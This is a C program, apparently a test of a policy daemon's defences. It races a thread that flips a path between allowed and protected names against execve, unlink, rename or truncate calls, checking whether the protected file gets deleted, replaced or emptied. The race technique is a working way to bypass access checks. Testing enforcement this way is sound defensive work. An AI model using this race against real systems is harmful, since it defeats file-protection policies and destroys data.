/* Attack: a second thread flips a name between an allowed one and a
 * protected (or denied) one while the main thread uses it, so the name
 * policyd decides on may not be the name the kernel acts on. Usage:
 *   static_name_race exec ALLOWED DENIED ARG
 *       execs the flipping name with argv [name, ARG] (whichever program
 *       the kernel reads runs)
 *   static_name_race unlink ALLOWED PROTECTED N
 *       recreates ALLOWED, unlink(flipping name), up to N times
 *   static_name_race rename ALLOWED PROTECTED N
 *       writes "replaced" to ALLOWED.src, rename(ALLOWED.src, flipping
 *       name), up to N times
 *   static_name_race truncate ALLOWED PROTECTED N
 *       writes ALLOWED, truncate(flipping name, 0), up to N times
 * and says "harmed the protected file" once PROTECTED is gone, replaced
 * or emptied.
 * Static: only the kernel backstop sees it. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];
static const char *a, *b;
static size_t la, lb;

static void *flip(void *p)
{
	(void)p;
	for (unsigned long i = 0;; i++) {
		if (i & 1)
			memcpy(path, b, lb + 1);
		else
			memcpy(path, a, la + 1);
	}
	return NULL;
}

static int harmed(const char *p)
{
	char buf[16] = "";
	int fd = open(p, O_RDONLY);
	if (fd < 0)
		return 1;
	ssize_t k = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return k <= 0 || !strncmp(buf, "replaced", 8);
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int ex = !strcmp(argv[1], "exec");
	int ren = !strcmp(argv[1], "rename"),
	    trunc = !strcmp(argv[1], "truncate");
	a = argv[2];
	b = argv[3];
	la = strlen(a);
	lb = strlen(b);
	int n = atoi(argv[4]);
	char src[4200];
	if (la >= sizeof(path) || lb >= sizeof(path))
		return 2;
	snprintf(src, sizeof(src), "%s.src", a);
	memcpy(path, a, la + 1);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	if (ex) {
		char *args[] = {path, argv[4], NULL};
		char *env[] = {NULL};
		usleep(1000);
		syscall(SYS_execve, path, args, env);
		printf("exec: refused errno=%d\n", errno);
		return 1;
	}
	int refused = 0;
	for (int i = 0; i < n; i++) {
		int fd =
		    open(ren ? src : a, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			if ((ren || trunc) && write(fd, "replaced\n", 9) != 9)
				return 2;
			close(fd);
		}
		long r = ren	 ? syscall(SYS_rename, src, path)
			 : trunc ? syscall(SYS_truncate, path, 0)
				 : syscall(SYS_unlink, path);
		if (r < 0 && errno == EACCES)
			refused++;
		if (harmed(b)) {
			printf("harmed the protected file (try %d)\n", i + 1);
			return 0;
		}
	}
	printf("protected file intact after %d tries (%d refused)\n", n,
	       refused);
	return 1;
}
